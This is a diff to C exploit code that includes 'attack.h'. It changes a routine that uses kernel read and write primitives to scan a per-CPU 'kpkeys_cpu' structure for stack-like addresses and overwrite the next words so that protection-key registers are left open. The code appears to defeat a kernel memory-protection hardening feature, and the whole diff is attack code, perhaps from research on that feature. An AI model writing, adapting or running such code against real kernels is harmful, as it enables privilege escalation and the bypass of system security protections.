@@ -15,7 +15,6 @@
 #include "attack.h"
 #include "list.h"
 
-#define PAGE_WORDS	(PAGE_SIZE / sizeof(uint64_t))
 #define LEVEL_RAISED	1UL	/* first word of kpkeys_cpu: level 1, nothing else */
 #define MODE_AUDIT	1	/* first word of kpkeys_state */
 #define BUSY_SIZE	(16UL << 20)
@@ -77,7 +76,7 @@ static bool is_stack_address(uint64_t value)
 {
 	uint64_t vmalloc = vmalloc_base();
 
-	return value > vmalloc && value - vmalloc < 1UL << 45 && value % PAGE_SIZE;
+	return value > vmalloc && value - vmalloc < 1UL << (address_bits() - 3) && value % PAGE_SIZE;
 }
 
 /*
@@ -87,12 +86,12 @@ static bool is_stack_address(uint64_t value)
 static void forge_slots_of_cpu(int cpu)
 {
 	uint64_t state = ksymbol_cpu("kpkeys_cpu", cpu);
-	uint64_t words[PAGE_WORDS];
+	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
 	size_t i;
 
 	if (!state || kread(state, words, sizeof(words)))
 		return;
-	for (i = 0; i + 1 < PAGE_WORDS; i++)
+	for (i = 0; i + 1 < table_entries(); i++)
 		if (is_stack_address(words[i]))
 			kwrite64(state + (i + 1) * 8, (words[i + 1] & ~0xffffffffUL) | REGISTER_OPEN);
 }
